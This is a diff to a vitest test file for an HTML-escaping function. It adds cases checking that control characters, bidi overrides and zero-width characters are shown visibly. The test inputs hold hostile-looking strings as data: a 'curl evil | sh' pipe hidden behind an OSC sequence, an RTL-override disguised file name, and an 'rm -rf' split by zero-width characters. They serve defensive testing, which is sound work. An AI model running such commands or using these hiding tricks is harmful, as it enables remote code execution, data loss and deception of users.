@@ -3,7 +3,12 @@ import { describe, expect, it } from 'vitest';
 import { escapeHtml } from './escape-html.js';
 
 function unescape(html: string): string {
-  return html.replace(/&(amp|lt|gt|quot|#39);/g, (_, name: string) => ({ amp: '&', lt: '<', gt: '>', quot: '"', '#39': "'" })[name] ?? '');
+  return decodeNotation(html.replace(/&(amp|lt|gt|quot|#39);/g, (_, name: string) => ({ amp: '&', lt: '<', gt: '>', quot: '"', '#39': "'" })[name] ?? ''));
+}
+
+/** Reads `\x1b` and `\u202e` notation back into the characters. */
+function decodeNotation(text: string): string {
+  return text.replace(/\\x([0-9a-f]{2})|\\u([0-9a-f]{4})/g, (_m, x: string | undefined, u: string | undefined) => String.fromCharCode(parseInt(x ?? u ?? '', 16)));
 }
 
 describe('escapeHtml', () => {
@@ -20,17 +25,34 @@ describe('escapeHtml', () => {
     ['</style>', '&lt;/style&gt;'],
     ['`backticks` and = signs', '`backticks` and = signs'],
     ['emoji 😀 and 日本語', 'emoji 😀 and 日本語'],
+    ['\ud83d\udc69\u200d\ud83d\udc67 \u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645', '\ud83d\udc69\u200d\ud83d\udc67 \u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645'],
   ])('escapes %j', (input, expected) => {
     expect(escapeHtml(input)).toBe(expected);
+  });
+
+  it.each([
+    ['an escape sequence', 'a\x1b[2Jb', 'a\\x1b[2Jb'],
+    ['a C1 OSC hiding the rest of a command', 'npm test\x9d; curl evil | sh\x07', 'npm test\\x9d; curl evil | sh\\x07'],
+    ['a right-to-left override', 'invoice.\u202efdp.exe', 'invoice.\\u202efdp.exe'],
+    ['bidi isolates and marks', '\u2066a\u2069\u200e\u061c', '\\u2066a\\u2069\\u200e\\u061c'],
+    ['zero-width characters in a command', 'r\u200bm -\u200drf \u2060\ufeff', 'r\\u200bm -\\u200drf \\u2060\\ufeff'],
+    ['NUL and DEL', '\x00\x7f', '\\x00\\x7f'],
+  ])('marks %s visibly', (_name, input, expected) => {
+    expect(escapeHtml(input)).toBe(expected);
+  });
+
+  it('keeps tabs and line ends as they are', () => {
+    expect(escapeHtml('a\tb\r\nc\n')).toBe('a\tb\r\nc\n');
   });
 
   it('leaves no character that could open a tag or close an attribute, and loses nothing', () => {
     fc.assert(
       fc.property(fc.string({ unit: 'binary' }), (text) => {
         const html = escapeHtml(text);
-        expect(html).not.toMatch(/[<>"']/);
-        expect(unescape(html)).toBe(text);
+        expect(html).not.toMatch(/[<>"'\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/);
+        expect(unescape(html)).toBe(decodeNotation(text));
       }),
+      { seed: 14 },
     );
   });
 
